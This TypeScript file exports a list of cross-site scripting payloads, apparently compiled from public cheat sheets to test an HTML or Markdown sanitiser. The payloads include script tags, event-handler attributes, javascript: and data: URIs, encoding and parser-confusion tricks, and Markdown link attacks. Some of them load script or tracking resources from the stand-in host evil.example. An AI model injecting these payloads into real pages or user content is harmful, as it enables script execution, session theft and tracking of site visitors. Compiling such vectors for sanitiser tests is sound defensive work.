/**
 * Attacks on whoever shows text from outside as HTML, as in the public lists (OWASP's filter evasion, PortSwigger's cheat
 * sheet): each opens a dialog or asks `evil.example` for something where it succeeds.
 */
export const xssVectors: readonly string[] = String.raw`
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script src=http://evil.example/x.js></script>
<script src=//evil.example/x.js></script>
<script/src="http://evil.example/x.js"></script>
<script >alert(1)</script >
<script␊>alert(1)</script␊>
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)
<script type="module">alert(1)</script>
<script type="text/vbscript">alert(1)</script>
<script>//<!--␊alert(1)//--></script>
<script>/*<![CDATA[*/alert(1)/*]]>*/</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x oNeRrOr=alert(1)>
<img/src=x/onerror=alert(1)>
<img src="x" onerror = alert(1) //
<img """><script>alert(1)</script>">
<img src=javascript:alert(1)>
<img src="jav&#x09;ascript:alert(1);">
<img src=x:alert(1) onerror=eval(src)>
<img src=http://evil.example/pixel.gif>
<img srcset="http://evil.example/pixel.gif 1x">
<img src=data:image/svg+xml,<svg/onload=alert(1)> onerror=alert(1)>
<img src=# onmouseover="alert(1)" autofocus>
<img onload=alert(1) src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>
<image src=x onerror=alert(1)>
<image href=x onerror=alert(1)>
<picture><source srcset="x"><img onerror=alert(1)></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg onload=alert&#40;1&#41;>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) /></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set onbegin=alert(1) attributeName=x></svg>
<svg><animateTransform onbegin=alert(1) attributeName=transform></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math href="javascript:alert(1)">click</math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">click</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body background="javascript:alert(1)">
<body onscroll=alert(1)><br><br><br><input autofocus>
<html onmouseover=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>
<iframe src=http://evil.example/></iframe>
<iframe onload=alert(1)></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<frameset onload=alert(1)>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object data=http://evil.example/x></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<applet code=http://evil.example/x></applet>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=http://evil.example/pixel.gif></video>
<video onloadstart=alert(1) src=x></video>
<audio src=x onerror=alert(1)></audio>
<audio src onloadstart=alert(1)>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<select onfocus=alert(1) autofocus></select>
<textarea onfocus=alert(1) autofocus></textarea>
<keygen onfocus=alert(1) autofocus>
<button onfocus=alert(1) autofocus>click</button>
<button formaction=javascript:alert(1)>click</button>
<form action=javascript:alert(1)><input type=submit value=click></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">click</button>
<isindex type=image src=1 onerror=alert(1)>
<details open ontoggle=alert(1)><summary>click</summary></details>
<dialog open onclose=alert(1)><form method=dialog><button>click</button></form></dialog>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<div onpointerover=alert(1) style="position:fixed;inset:0">x</div>
<div onmouseenter=alert(1) style="position:fixed;inset:0;z-index:9999">x</div>
<div style="background:url(http://evil.example/pixel.gif)">x</div>
<div style="background-image:url('javascript:alert(1)')">x</div>
<div style="width:expression(alert(1))">x</div>
<style>@import 'http://evil.example/x.css';</style>
<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)"></xss>
<style>*{background:url(http://evil.example/pixel.gif)}</style>
<link rel=stylesheet href=http://evil.example/x.css>
<link rel=prefetch href=http://evil.example/x>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=http://evil.example/">
<base href="http://evil.example/"><img src=pixel.gif>
<base href="javascript:alert(1);//">
<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>
<xss onbeforematch=alert(1) hidden=until-found>x</xss>
<xss contenteditable onbeforeinput=alert(1) autofocus>x</xss>
<xss onanimationend=alert(1) style="animation:x 1s"></xss>
<x onclick=alert(1)>click</x>
<a href="javascript:alert(1)">click</a>
<a href="JaVaScRiPt:alert(1)">click</a>
<a href=" javascript:alert(1)">click</a>
<a href="&#1;javascript:alert(1)">click</a>
<a href="java&Tab;script:alert(1)">click</a>
<a href="java&NewLine;script:alert(1)">click</a>
<a href="javascript&colon;alert(1)">click</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>
<a href="javascript:%61lert(1)">click</a>
<a href="vbscript:alert(1)">click</a>
<a href="data:text/html,<script>alert(1)</script>">click</a>
<a href="blob:http://evil.example/x">click</a>
<a href="#" onclick="alert(1)">click</a>
<a onmouseover="alert(1)" style="position:fixed;inset:0">x</a>
<a href="http://evil.example/" ping="http://evil.example/ping" target=_blank>click</a>
<a id=x href="javascript:alert(1)" tabindex=1 onfocus=alert(1) autofocus>x</a>
<area href="javascript:alert(1)">
<map name=x><area shape=default href="javascript:alert(1)"></map><img usemap=#x src=data:,>
<portal src="http://evil.example/"></portal>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<slot onslotchange=alert(1)><img></slot>
<table background="http://evil.example/pixel.gif"><td>x
<br size="&{alert(1)}">
<plaintext><script>alert(1)</script>
<xmp><p title="</xmp><svg/onload=alert(1)>">
<title><a title="</title><svg/onload=alert(1)>">
<textarea><a title="</textarea><svg/onload=alert(1)>">
<select><template><style></select><img src=x onerror=alert(1)></style>
<p id="</p><img src=x onerror=alert(1)>">x</p>
<!--><img src=x onerror=alert(1)>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><html:html xmlns:html="http://www.w3.org/1999/xhtml"><html:script>alert(1)</html:script></html:html>
<a/href/onclick=alert(1)//>click
"><img src=x onerror=alert(1)>
'><script>alert(1)</script>
" onfocus=alert(1) autofocus x="
' onmouseover='alert(1)
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
javascript:alert(1)
javascript://%0aalert(1)
java	script:alert(1)
data:text/html,<script>alert(1)</script>
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cimg src=x onerror=alert(1)\x3e
&lt;script&gt;alert(1)&lt;/script&gt;
%3Cscript%3Ealert(1)%3C/script%3E
{{constructor.constructor('alert(1)')()}}
#{alert(1)}
[click](javascript:alert(1))
[click](JaVaScRiPt:alert(1))
[click](javascript&colon;alert(1))
[click](java&#x09;script:alert(1))
[click](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))
[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[click](vbscript:alert(1))
[click](<javascript:alert(1)>)
[click]( javascript:alert(1) "title")
[click](http://a.example"onmouseover="alert(1))
[click][x]␊␊[x]: javascript:alert(1)
![x](http://evil.example/pixel.gif)
![x](javascript:alert(1))
![x](x"onerror="alert(1))
![x]("onerror="alert(1))
![<img src=x onerror=alert(1)>](x)
[<img src=x onerror=alert(1)>](x)
<javascript:alert(1)>
<http://a.example/"onmouseover="alert(1)>
**<img src=x onerror=alert(1)>**
# <svg onload=alert(1)>
> <script>alert(1)</script>
    <script>alert(1)</script>
~~~␊<script>alert(1)</script>␊~~~
| <img src=x onerror=alert(1)> |
`
  .split('\n')
  .filter((vector) => vector !== '')
  // A line break inside of one.
  .map((vector) => vector.replaceAll('␊', '\n'));
